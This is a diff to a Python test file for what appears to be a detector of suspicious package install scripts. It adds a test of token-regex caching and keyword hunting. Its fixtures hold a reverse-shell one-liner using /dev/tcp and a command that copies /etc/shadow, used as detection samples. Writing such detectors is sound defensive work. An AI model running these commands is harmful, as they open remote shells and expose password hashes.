@@ -11,7 +11,11 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from weaklink.signals import ScriptCategory, classify_script, find_suspicious_tokens, DEFAULT_SUSPICIOUS_TOKENS
+from weaklink import signals
+from weaklink.combinations import keyword_hunt
+from weaklink.signals import AnalyzerConfig, ScriptCategory, analyze_w2, classify_script, find_suspicious_tokens, token_regex, DEFAULT_SUSPICIOUS_TOKENS
+
+from conftest import make_corpus, make_record
 
 REVERSE_SHELL = [
     "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
@@ -133,6 +137,24 @@ def test_find_suspicious_tokens_examples():
     assert find_suspicious_tokens("echo done", DEFAULT_SUSPICIOUS_TOKENS) == []
     hits = find_suspicious_tokens("cat /etc/shadow > /tmp/x; chmod +x /tmp/x", DEFAULT_SUSPICIOUS_TOKENS)
     assert set(hits) == {"/etc/shadow", "chmod +x"}
+
+
+def test_each_token_regex_is_compiled_once_per_token_tuple(monkeypatch):
+    # W2 and the keyword hunt scan every install script body for the same
+    # tokens; the hits are those of one regex per token, in token order.
+    compiled = []
+    monkeypatch.setattr(signals, "token_regex", lambda token: compiled.append(token) or token_regex(token))
+    signals._token_regexes.cache_clear()
+    bodies = [body for body, _ in SUITE]
+    corpus = make_corpus([make_record(f"p{i:03d}", scripts={"install": body, "postinstall": "node x.js"}) for i, body in enumerate(bodies)])
+    cfg = AnalyzerConfig().resolved(corpus)
+    analyze_w2(corpus, cfg)
+    hunted = keyword_hunt(corpus, cfg)
+    assert compiled == list(DEFAULT_SUSPICIOUS_TOKENS)
+    expected = [[tok for tok in DEFAULT_SUSPICIOUS_TOKENS if token_regex(tok).search(body)] for body in bodies]
+    assert [find_suspicious_tokens(body, DEFAULT_SUSPICIOUS_TOKENS) for body in bodies] == expected
+    assert [list(hit.tokens) for hit in hunted if hit.script_key == "install"] == [hits for hits in expected if hits]
+    assert compiled == list(DEFAULT_SUSPICIOUS_TOKENS)
 
 
 @pytest.mark.parametrize("body,expected", SUITE)
